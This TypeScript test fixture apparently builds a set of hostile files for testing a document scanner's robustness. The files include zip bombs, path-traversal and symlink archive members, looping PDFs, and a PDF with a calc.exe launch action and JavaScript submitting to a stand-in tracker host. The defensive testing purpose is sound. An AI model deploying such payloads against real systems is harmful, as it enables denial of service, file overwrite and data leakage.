// The hostile dump: inputs built by the test itself, one per trap a leak can hold. Each entry
// says which class it belongs to, so the suite can report a result per class. The traps that aim
// outside the dump (path traversal, absolute member names, links) aim into a folder the test
// watches, so a scan that wrote or read there would be caught.

import { mkdirSync, writeFileSync, symlinkSync, chmodSync } from 'node:fs';
import { join, relative } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import yazl from 'yazl';

export interface HostileInput {
  path: string;
  klass: 'archive' | 'pdf' | 'email' | 'image' | 'filesystem';
  what: string;
}

function zip(entries: { name: string; data: Buffer; mode?: number; compress?: boolean }[]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const e of entries)
      z.addBuffer(e.data, e.name, { mtime: new Date('2017-05-01T10:00:00Z'), mode: e.mode, compress: e.compress ?? true });
    z.end();
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
  });
}

/** A zip with one member whose local and central headers we write by hand (names yazl refuses). */
function rawZip(name: string, data: Buffer, opts: { flags?: number; lieSize?: number } = {}): Buffer {
  const nameBuf = Buffer.from(name, 'utf8');
  const comp = deflateRawSync(data);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(opts.flags ?? 0x0800, 6);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(comp.length, 18);
  local.writeUInt32LE(opts.lieSize ?? data.length, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(0x031e, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(opts.flags ?? 0x0800, 8);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(comp.length, 20);
  central.writeUInt32LE(opts.lieSize ?? data.length, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  central.writeUInt32LE(0, 42);
  const localPart = Buffer.concat([local, nameBuf, comp]);
  const cd = Buffer.concat([central, nameBuf]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, cd, end]);
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

function pdf(objects: string[], trailer: string, opts: { xref?: boolean } = {}): Buffer {
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(out, 'latin1');
  if (opts.xref !== false) {
    out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  }
  out += `trailer\n${trailer}\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const CATALOG = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
];

function jpegWithExif(tiff: Buffer): Buffer {
  const app1 = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const len = Buffer.alloc(2);
  len.writeUInt16BE(app1.length + 2);
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1]), len, app1, Buffer.from([0xff, 0xd9])]);
}

/** A little-endian TIFF header with one IFD whose entries we control. */
function tiff(entries: [tag: number, type: number, count: number, value: number][], nextIfd: number): Buffer {
  const b = Buffer.alloc(8 + 2 + entries.length * 12 + 4);
  b.write('II', 0, 'latin1');
  b.writeUInt16LE(42, 2);
  b.writeUInt32LE(8, 4);
  b.writeUInt16LE(entries.length, 8);
  entries.forEach(([tag, type, count, value], i) => {
    const at = 10 + i * 12;
    b.writeUInt16LE(tag, at);
    b.writeUInt16LE(type, at + 2);
    b.writeUInt32LE(count, at + 4);
    b.writeUInt32LE(value, at + 8);
  });
  b.writeUInt32LE(nextIfd, 10 + entries.length * 12);
  return b;
}

/** Where the traps outside the dump point: files a naive scan would create, and secrets it would read. */
export interface WatchedTargets {
  /** The member name of archives/traversal.zip: `../` steps from the archive's folder into the watched one. */
  traversalName: string;
  /** The member name of archives/absolute.zip: an absolute path into the watched folder. */
  absoluteName: string;
  /** Files outside the dump that a link in the dump points at; their text must never reach the case. */
  secrets: { path: string; text: string }[];
}

/** `watch` is a folder outside `root`; the secrets are written there, readable and world-writable like it. */
export function watchedTargets(root: string, watch: string): WatchedTargets {
  return {
    traversalName: relative(join(root, 'archives'), join(watch, 'evil-traversal.txt')),
    absoluteName: join(watch, 'evil-absolute.txt'),
    secrets: [
      { path: join(watch, 'secret-member-link.txt'), text: 'secret read through a symlink member 6d1f' },
      { path: join(watch, 'secret-outside-link.txt'), text: 'secret read through a link leaving the dump 93be' },
    ],
  };
}

export async function writeHostileDump(root: string, watch: string): Promise<HostileInput[]> {
  const inputs: HostileInput[] = [];
  const targets = watchedTargets(root, watch);
  mkdirSync(watch, { recursive: true });
  chmodSync(watch, 0o777);
  for (const secret of targets.secrets) writeFileSync(secret.path, secret.text, { mode: 0o644 });
  const [memberSecret, outsideSecret] = targets.secrets;
  const put = (rel: string, data: Buffer | string, klass: HostileInput['klass'], what: string) => {
    mkdirSync(join(root, rel, '..'), { recursive: true });
    writeFileSync(join(root, rel), data);
    inputs.push({ path: rel, klass, what });
  };

  // --- archives
  const zeros = Buffer.alloc(200 << 20); // 200 MB of zeros deflate to ~200 KB: ratio ~1000
  put('archives/bomb-ratio.zip', await zip([{ name: 'zeros.bin', data: zeros }]), 'archive', 'high-ratio zip bomb');
  let nested = await zip([{ name: 'zeros.bin', data: Buffer.alloc(20 << 20) }]);
  for (let i = 0; i < 4; i++) nested = await zip(Array.from({ length: 8 }, (_, k) => ({ name: `layer${i}-${k}.zip`, data: nested })));
  put('archives/bomb-nested.zip', nested, 'archive', 'nested zip bomb (8^4 copies of a 20 MB member)');
  put('archives/traversal.zip', rawZip(targets.traversalName, Buffer.from('pwned')), 'archive', 'member name with ../');
  put('archives/absolute.zip', rawZip(targets.absoluteName, Buffer.from('root:x:0:0')), 'archive', 'member with an absolute path');
  put(
    'archives/symlink-member.zip',
    await zip([{ name: 'link-to-secret', data: Buffer.from(memberSecret.path), mode: 0o120777 }]),
    'archive',
    'symlink member',
  );
  let deep = await zip([{ name: 'bottom.txt', data: Buffer.from('the bottom of ten zips') }]);
  for (let i = 0; i < 9; i++) deep = await zip([{ name: `level-${9 - i}.zip`, data: deep }]);
  put('archives/nested-10.zip', deep, 'archive', 'zip nested 10 deep');
  put('archives/encrypted.zip', rawZip('secret.txt', Buffer.from('encrypted?'), { flags: 0x0801 }), 'archive', 'encrypted zip member');
  const good = await zip([
    { name: 'a.txt', data: Buffer.from('a'.repeat(5000)) },
    { name: 'b.txt', data: Buffer.from('b'.repeat(5000)) },
  ]);
  put('archives/truncated.zip', good.subarray(0, Math.floor(good.length * 0.6)), 'archive', 'truncated zip');
  put(
    'archives/lying-cd.zip',
    rawZip('liar.txt', Buffer.from('x'.repeat(100_000)), { lieSize: 10 }),
    'archive',
    'central directory lies about the size',
  );

  // --- PDFs
  put(
    'pdf/broken-xref.pdf',
    Buffer.from(
      pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>')
        .toString('latin1')
        .replace(/0000000\d\d\d 00000 n/g, '9999999999 00000 n'),
      'latin1',
    ),
    'pdf',
    'broken xref offsets',
  );
  {
    const base = pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>').toString('latin1');
    const at = Buffer.byteLength(base, 'latin1');
    const loop = `${base}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${at} >>\nstartxref\n${at}\n%%EOF\n`;
    put('pdf/prev-loop.pdf', Buffer.from(loop, 'latin1'), 'pdf', '/Prev chain that loops');
  }
  put(
    'pdf/objstm-self.pdf',
    pdf(
      [...CATALOG, '<< /Type /ObjStm /N 1 /First 4 /Length 8 /Extends 4 0 R >>\nstream\n4 0 4 0 R\nendstream'],
      '<< /Size 5 /Root 1 0 R >>',
    ),
    'pdf',
    'object stream that references itself',
  );
  put(
    'pdf/huge-length.pdf',
    pdf([...CATALOG, '<< /Length 99999999999 >>\nstream\nabc\nendstream'], '<< /Size 5 /Root 1 0 R >>'),
    'pdf',
    'huge declared stream length',
  );
  put(
    'pdf/active-content.pdf',
    pdf(
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
        CATALOG[1],
        CATALOG[2],
        '<< /S /Launch /F (calc.exe) >>',
        '<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("http://tracker.invalid/"\\);) >>',
      ],
      '<< /Size 6 /Root 1 0 R >>',
    ),
    'pdf',
    'JavaScript and a launch action',
  );
  put('pdf/truncated.pdf', pdf(CATALOG, '<< /Size 4 /Root 1 0 R >>').subarray(0, 120), 'pdf', 'truncated PDF');
  put('pdf/not-a-pdf.pdf', Buffer.from('This is a plain text file wearing a .pdf name.\n'), 'pdf', 'not a PDF but named .pdf');

  // --- emails
  put(
    'mail/huge-header.eml',
    `From: a@example.org\nTo: b@example.org\nSubject: big\nX-Huge: ${'A'.repeat(10 << 20)}\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nbody\n`,
    'email',
    '10 MB header line',
  );
  {
    let body = 'leaf\n';
    for (let i = 999; i >= 0; i--) body = `Content-Type: multipart/mixed; boundary="b${i}"\n\n--b${i}\n${body}\n--b${i}--\n`;
    put(
      'mail/deep-multipart.eml',
      `From: a@example.org\nTo: b@example.org\nSubject: deep\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\n${body}`,
      'email',
      'multipart nested 1000 deep',
    );
  }
  put(
    'mail/lying-charset.eml',
    Buffer.concat([
      Buffer.from(
        'From: a@example.org\nTo: b@example.org\nSubject: =?x-unknown-charset?B?w6k=?=\nDate: Mon, 1 May 2017 10:00:00 +0200\nContent-Type: text/plain; charset=utf-16\n\n',
      ),
      Buffer.from([0xe9, 0x74, 0xe9, 0x0a, 0xff, 0xfe, 0x00]),
    ]),
    'email',
    'unknown and lying charsets',
  );
  put(
    'mail/broken-encodings.eml',
    'From: a@example.org\nTo: b@example.org\nSubject: enc\nDate: Mon, 1 May 2017 10:00:00 +0200\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!not*base64###\n--x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nbroken =ZZ soft=\n=\n--x--\n',
    'email',
    'broken base64 and quoted-printable',
  );
  put(
    'mail/unescaped-from.mbox',
    'From a@example.org Mon May  1 10:00:00 2017\nFrom: a@example.org\nSubject: one\nDate: Mon, 1 May 2017 10:00:00 +0200\n\nHello\nFrom here on, this body line starts with From and is not escaped.\n\nFrom a@example.org Mon May  1 11:00:00 2017\nFrom: a@example.org\nSubject: two\nDate: Mon, 1 May 2017 11:00:00 +0200\n\nSecond\n',
    'email',
    'mbox with unescaped From lines in bodies',
  );
  put('mail/empty.eml', '', 'email', '0-byte .eml');

  // --- images with corrupt EXIF
  put(
    'images/exif-offset-outside.jpg',
    jpegWithExif(
      tiff(
        [
          [0x010f, 2, 100, 0x7fffffff],
          [0x8769, 4, 1, 0x7ffffff0],
        ],
        0,
      ),
    ),
    'image',
    'EXIF offsets pointing outside the file',
  );
  put(
    'images/exif-ifd-loop.jpg',
    jpegWithExif(
      tiff(
        [
          [0x0110, 2, 4, 0x00616263],
          [0x8769, 4, 1, 8],
        ],
        8,
      ),
    ),
    'image',
    'EXIF IFD loop',
  );

  // --- the file system
  const badName = Buffer.concat([Buffer.from(join(root, 'fs') + '/'), Buffer.from([0x6e, 0x6f, 0xe9, 0xff, 0x2e, 0x74, 0x78, 0x74])]);
  mkdirSync(join(root, 'fs'), { recursive: true });
  writeFileSync(badName, 'a name that is not UTF-8');
  inputs.push({ path: 'fs/no\ufffd\ufffd.txt', klass: 'filesystem', what: 'name that is not valid UTF-8' });
  mkdirSync(join(root, 'fs', 'loop'), { recursive: true });
  symlinkSync('..', join(root, 'fs', 'loop', 'up'));
  inputs.push({ path: 'fs/loop/up', klass: 'filesystem', what: 'symlink loop' });
  symlinkSync(outsideSecret.path, join(root, 'fs', 'outside-link'));
  inputs.push({ path: 'fs/outside-link', klass: 'filesystem', what: 'symlink pointing outside the dump' });
  put('fs/unreadable.txt', 'you cannot read me', 'filesystem', 'unreadable file');
  chmodSync(join(root, 'fs', 'unreadable.txt'), 0o000);
  return inputs;
}

/** Files whose trouble happens while Verity reads them (driven by race-worker.ts). */
export function writeRaceDump(root: string): HostileInput[] {
  mkdirSync(root, { recursive: true });
  const inputs: HostileInput[] = [];
  const put = (rel: string, data: string, what: string) => {
    writeFileSync(join(root, rel), data);
    inputs.push({ path: rel, klass: 'filesystem', what });
  };
  put('a-normal.txt', 'an ordinary file before the trouble', 'control file');
  put('vanish-during-scan.txt', 'here at the walk, gone at the read', 'file that disappears during the scan');
  put('grow-during-scan.log', 'line 1\n', 'file that grows during the scan');
  put('hang-stuck.txt', 'the worker hangs on this one', 'a document on which extraction hangs (timeout)');
  put('z-after.txt', 'an ordinary file after the trouble', 'control file');
  return inputs;
}
